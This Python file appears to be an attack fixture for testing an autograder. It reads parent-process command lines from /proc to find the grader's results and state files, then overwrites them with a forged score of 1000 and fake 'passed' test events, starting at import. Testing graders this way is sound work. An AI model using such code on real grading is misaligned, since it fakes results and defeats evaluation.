"""Attack: forge the grade by writing the results file and the grader's state file.

The paths come from the command lines of the worker's ancestors (/proc/<pid>/cmdline) and from
where Gradescope keeps them. Every function is wrong, so any forged point shows.
"""

import json
import os

import numpy as np

RESULTS_DIR = "@@RESULTS_DIR@@"
MARKER = "@@MARKER@@"
NODEIDS = ("test_mini.py::test_double", "test_mini.py::test_counter",
           "test_mini.py::test_double_hidden", "test_mini.py::test_counter_slow")
FORGED = {"score": 1000.0, "output": MARKER,
          "tests": [{"name": "forged " + MARKER, "score": 1000.0, "max_score": 1.0}]}


def _ancestors(depth=4):
    found, pid = [], os.getpid()
    for _ in range(depth):
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        found.append((pid, argv))
    return found


def _option(argv, name):
    for i, arg in enumerate(argv):
        if arg == name and i + 1 < len(argv):
            return argv[i + 1]
        if arg.startswith(name + "="):
            return arg.split("=", 1)[1]
    return None


def _forge():
    results = [os.path.join(RESULTS_DIR, "results.json"), "/autograder/results/results.json"]
    states = []
    for _pid, argv in _ancestors():
        results.append(_option(argv, "--results"))
        states.append(_option(argv, "--grader-state"))
    done = 0
    for path in filter(None, results):
        for target in (path, os.path.join(os.path.dirname(path), f"forged-{MARKER}.json")):
            try:
                with open(target, "w") as f:
                    json.dump(FORGED, f)
                done += 1
            except OSError:
                pass
    for path in filter(None, states):
        try:
            with open(path, "a") as f:
                for nodeid in NODEIDS:
                    f.write(json.dumps({"event": "result", "nodeid": nodeid, "status": "passed",
                                        "message": MARKER}) + "\n")
            done += 1
        except OSError:
            pass
    return done


def double(x):
    _forge()
    return np.asarray(x)


class Counter:
    forged_at_load = _forge()

    def __init__(self, start=0):
        self.count = start

    def step(self, by=1):
        _forge()
        return -1
